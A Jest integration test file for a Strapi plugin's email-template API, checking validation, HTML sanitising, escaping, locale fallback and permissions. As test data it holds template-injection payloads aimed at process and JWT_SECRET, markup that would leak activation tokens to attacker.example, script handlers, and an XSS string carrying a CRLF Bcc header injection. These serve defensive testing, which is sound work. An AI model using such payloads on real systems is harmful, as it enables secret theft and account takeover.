import { bootStrapi, type TestApp } from '../helpers/strapi';
import { createAdmin, createAdminRole, type AdminSession } from '../helpers/actors';
import { messageCount, waitForStatus, worker } from '../helpers/outbox';

const mailer = (app: TestApp) => app.strapi.plugin('user-communication').service('mailer');

describe('templates', () => {
  let app: TestApp;
  let admin: AdminSession;

  beforeAll(async () => {
    app = await bootStrapi();
    admin = await createAdmin(app);
  });

  afterAll(async () => {
    await app?.stop();
  });

  const api = (method: 'get' | 'put' | 'post' | 'delete', path: string, session = admin) =>
    app.http()[method](`/user-communication${path}`).set('Authorization', session.auth);

  it('lists every message type in English and Danish, with its variables', async () => {
    const response = await api('get', '/templates');
    expect(response.status).toBe(200);
    const keys = response.body.results.map(
      (t: { type: string; locale: string }) => `${t.type}/${t.locale}`
    );
    for (const type of ['activation', 'password-reset', 'password-changed', 'no-login-reminder']) {
      expect(keys).toEqual(expect.arrayContaining([`${type}/en`, `${type}/da`]));
    }
    const activation = response.body.results.find(
      (t: { type: string; locale: string }) => t.type === 'activation' && t.locale === 'en'
    );
    expect(activation).toMatchObject({
      customized: false,
      variables: expect.arrayContaining(['link', 'expiresInDays', 'username']),
    });
  });

  it('returns one template and saves an edit', async () => {
    const original = await api('get', '/templates/activation/en');
    expect(original.status).toBe(200);
    expect(original.body.subject).toContain('{{ platformName }}');

    const saved = await api('put', '/templates/activation/en').send({
      subject: 'Welcome {{ username }}',
      html: '<p>Hi {{ username }}, <a href="{{ link }}">activate</a></p>',
      text: 'Hi {{ username }}, activate: {{ link }}',
    });
    expect(saved.status).toBe(200);
    expect(saved.body).toMatchObject({ subject: 'Welcome {{ username }}', customized: true });
    expect((await api('get', '/templates/activation/en')).body.subject).toBe(
      'Welcome {{ username }}'
    );

    const reset = await api('delete', '/templates/activation/en');
    expect(reset.status).toBe(200);
    expect(reset.body).toMatchObject({ customized: false, subject: original.body.subject });
  });

  it.each([
    [
      'an unknown variable',
      { subject: 'Hi {{ password }}', html: '<p>x</p>', text: 'x' },
      'password',
    ],
    [
      'an expression',
      {
        subject: 'Hi',
        html: "<p>{{ constructor.constructor('return process')() }}</p>",
        text: 'x',
      },
      'constructor',
    ],
    [
      'a lodash template',
      { subject: 'Hi', html: '<p>ok</p>', text: '{{ link }} <%= process.env.JWT_SECRET %>' },
      null,
    ],
  ])('refuses a template with %s with a 400 naming it', async (_label, body, named) => {
    const response = await api('put', '/templates/password-reset/en').send(body);
    if (named === null) {
      // Not a placeholder: stored as literal text, never evaluated.
      expect(response.status).toBe(200);
      const preview = await api('post', '/templates/password-reset/en/preview').send({});
      expect(preview.body.text).toContain('<%= process.env.JWT_SECRET %>');
      await api('delete', '/templates/password-reset/en');
      return;
    }
    expect(response.status).toBe(400);
    expect(response.body.error.name).toBe('ValidationError');
    expect(response.body.error.message).toContain(named);
    expect((await api('get', '/templates/password-reset/en')).body.customized).toBe(false);
  });

  describe('{{ link }} stands only in the text part and in the href of a link', () => {
    const activation = {
      subject: 'Activate your account',
      html: '<p><a href="{{ link }}">Activate</a></p>',
      text: 'Activate: {{ link }}',
    };
    const misplaced = [
      ['the subject', { subject: 'Activate: {{link}}' }, 'subject', 'not in the subject'],
      [
        'an image',
        { html: '<img src="https://attacker.example/p?{{   link }}">' },
        'html',
        'not in the src of <img>',
      ],
      [
        'a CSS url()',
        { html: '<td style="background:url(https://attacker.example/?{{ link }})">x</td>' },
        'html',
        'not in the style of <td>',
      ],
      ['the HTML text', { html: '<p>Copy {{ link }}</p>' }, 'html', 'not in the text of <p>'],
      // Sanitising drops <blink> and so joins the braces into a placeholder.
      [
        'text that sanitising joins',
        { html: '<p>{<blink></blink>{ link }}</p>' },
        'html',
        'not in the text of <p>',
      ],
    ] as const;

    it.each(misplaced)(
      'refuses to save it in %s, naming the place',
      async (_label, edit, path, place) => {
        const response = await api('put', '/templates/activation/en').send({
          ...activation,
          ...edit,
        });
        expect(response.status).toBe(400);
        expect(response.body.error.name).toBe('ValidationError');
        expect(response.body.error.message).toBe(
          `{{ link }} may only be used in the text part and in the href of a link, ${place}`
        );
        expect(response.body.error.details.errors[0].path).toEqual([path]);
        expect((await api('get', '/templates/activation/en')).body.customized).toBe(false);
      }
    );

    it.each(misplaced)(
      'refuses a draft with it in %s in preview and test-send',
      async (_label, edit, path, place) => {
        const queued = await messageCount(app, { type: 'test' });
        for (const action of ['preview', 'test-send']) {
          const response = await api('post', `/templates/password-reset/da/${action}`).send({
            ...activation,
            ...edit,
          });
          expect(response.status).toBe(400);
          expect(response.body.error.message).toContain(place);
          expect(response.body.error.details.errors[0].path).toEqual([path]);
        }
        expect(await messageCount(app, { type: 'test' })).toBe(queued);
      }
    );

    it('saves it in the href of a link and anywhere in the text part', async () => {
      const response = await api('put', '/templates/no-login-reminder/da').send({
        subject: 'Kom tilbage',
        html: '<p><a href="{{link}}">Fortsæt</a></p>',
        text: '{{ link }}\n\nHej {{ username }}: {{ link }}',
      });
      expect(response.status).toBe(200);
      await api('delete', '/templates/no-login-reminder/da');
    });
  });

  it('stores the HTML sanitised, and sends what the preview shows', async () => {
    const saved = await api('put', '/templates/activation/en').send({
      subject: 'Activate your account',
      html:
        '<p onclick="steal()">Hello {{ username }}</p><script>steal()</script>' +
        '<img src="https://attacker.example/p.png">' +
        '<p><a href="{{ link }}" style="color:#4945ff;background:url(https://attacker.example/b)">Activate</a></p>',
      text: 'Activate: {{ link }}',
    });
    expect(saved.status).toBe(200);
    const clean = '<p>Hello {{ username }}</p><p><a href="{{ link }}">Activate</a></p>';
    expect(saved.body.html).toBe(clean);
    expect((await api('get', '/templates/activation/en')).body.html).toBe(clean);

    const preview = await api('post', '/templates/activation/en/preview');
    const email = 'jane.learner@example.com';
    const { id } = await mailer(app).queueForUser({
      type: 'activation',
      // Greeted by name as in the preview: activated, and named by an admin.
      user: {
        id: 4343,
        email,
        username: 'Jane Learner',
        locale: 'en',
        origin: 'manual',
        activatedAt: '2026-01-01T00:00:00.000Z',
        lastLoginAt: null,
      },
      variables: {
        link: 'https://learn.example.com/example-link#token=sample',
        expiresInDays: 14,
        expiresAt: '2026-01-15 06:00 UTC',
      },
      dedupeKey: 'sanitised-preview',
    });
    await worker(app).tick();
    await waitForStatus(app, id, 'sent');
    const mail = await app.mail.waitFor((m) => m.to.includes(email));
    expect(mail.html).toBe(preview.body.html);
    await api('delete', '/templates/activation/en');
  });

  it('rejects an unknown type, a malformed locale and missing fields', async () => {
    expect((await api('get', '/templates/welcome/en')).status).toBe(400);
    expect((await api('get', '/templates/activation/english')).status).toBe(400);
    const missing = await api('put', '/templates/activation/en').send({ subject: 'x' });
    expect(missing.status).toBe(400);
    expect(missing.body.error.message).toMatch(/html|text/);
  });

  it('previews a stored or draft template with sample data, a draft sanitised as on save', async () => {
    const stored = await api('post', '/templates/no-login-reminder/da/preview');
    expect(stored.status).toBe(200);
    expect(stored.body.subject).toBe('Vi savner dig på Learning platform');
    expect(stored.body.html).toContain('Jane Learner');
    expect(stored.body.text).toContain('30');

    const draft = await api('post', '/templates/no-login-reminder/en/preview').send({
      subject: 'Come back, {{ username }}',
      html: '<b onmouseover="steal()">{{ daysSinceLastLogin }}</b><script>steal()</script>',
      text: '{{ daysSinceLastLogin }} days',
    });
    expect(draft.body).toEqual({
      subject: 'Come back, Jane Learner',
      html: '<b>30</b>',
      text: '30 days',
    });
  });

  it('escapes HTML in values in the HTML part, and keeps headers on one line', async () => {
    await api('put', '/templates/password-changed/en').send({
      subject: 'Changed for {{ username }}',
      html: '<p>Hello {{ username }}</p>',
      text: 'Hello {{ username }}',
    });
    const user = {
      id: 4242,
      email: 'mallory@example.com',
      username: '<img src=x onerror=alert(1)>\r\nBcc: all@example.com',
      // Activated and named by an admin: a mail greets such a user by name.
      origin: 'manual',
      activatedAt: '2026-01-01T00:00:00.000Z',
      lastLoginAt: null,
    };
    const { id } = await mailer(app).queueForUser({
      type: 'password-changed',
      user,
      variables: { changedAt: 'now' },
      dedupeKey: 'xss-test',
    });
    await worker(app).tick();
    await waitForStatus(app, id, 'sent');
    const mail = await app.mail.waitFor((m) => m.to.includes('mallory@example.com'));
    expect(mail.html).toContain('&lt;img src&#61;x onerror&#61;alert(1)&gt;');
    expect(mail.html).not.toContain('<img');
    expect(mail.text).toContain('<img src=x onerror=alert(1)>');
    expect(mail.subject).toBe('Changed for <img src=x onerror=alert(1)> Bcc: all@example.com');
    expect(mail.to).toEqual(['mallory@example.com']);
    await api('delete', '/templates/password-changed/en');
  });

  it("picks the user's locale, falling back to the language and then the default locale", async () => {
    const send = async (locale: string | null, email: string) => {
      const { id } = await mailer(app).queueForUser({
        type: 'no-login-reminder',
        user: { id: 1, email, username: 'Ole', locale },
        variables: { link: 'https://learn.example.com', daysSinceLastLogin: 31 },
        dedupeKey: `locale:${email}`,
      });
      await worker(app).tick();
      await waitForStatus(app, id, 'sent');
      return app.mail.waitFor((m) => m.to.includes(email));
    };
    expect((await send('da', 'da@example.com')).subject).toBe('Vi savner dig på Learning platform');
    expect((await send('da-DK', 'da-dk@example.com')).subject).toBe(
      'Vi savner dig på Learning platform'
    );
    expect((await send('fr', 'fr@example.com')).subject).toBe('We miss you on Learning platform');
    expect((await send(null, 'none@example.com')).subject).toBe('We miss you on Learning platform');
  });

  it("sends a test to the calling admin's own address", async () => {
    const response = await api('post', '/templates/activation/da/test-send');
    expect(response.status).toBe(202);
    expect(response.body.recipient).toBe(admin.email);
    await worker(app).tick();
    const mail = await app.mail.waitFor((m) => m.to.includes(admin.email));
    expect(mail.subject).toBe('[Test] Aktivér din konto på Learning platform');
    const logged = await app.strapi.db
      .query('plugin::user-communication.message')
      .findOne({ where: { id: response.body.messageId } });
    expect(logged.type).toBe('test');
  });

  it('requires the template permissions', async () => {
    const reader = await createAdmin(app, {
      roleIds: [await createAdminRole(app, ['plugin::user-communication.templates.read'])],
    });
    expect((await api('get', '/templates', reader)).status).toBe(200);
    expect((await api('post', '/templates/activation/en/preview', reader)).status).toBe(200);
    expect(
      (
        await api('put', '/templates/activation/en', reader).send({
          subject: 'x',
          html: 'x',
          text: 'x',
        })
      ).status
    ).toBe(403);
    expect((await api('post', '/templates/activation/en/test-send', reader)).status).toBe(403);
    const nobody = await createAdmin(app, { roleIds: [await createAdminRole(app)] });
    expect((await api('get', '/templates', nobody)).status).toBe(403);
  });
});
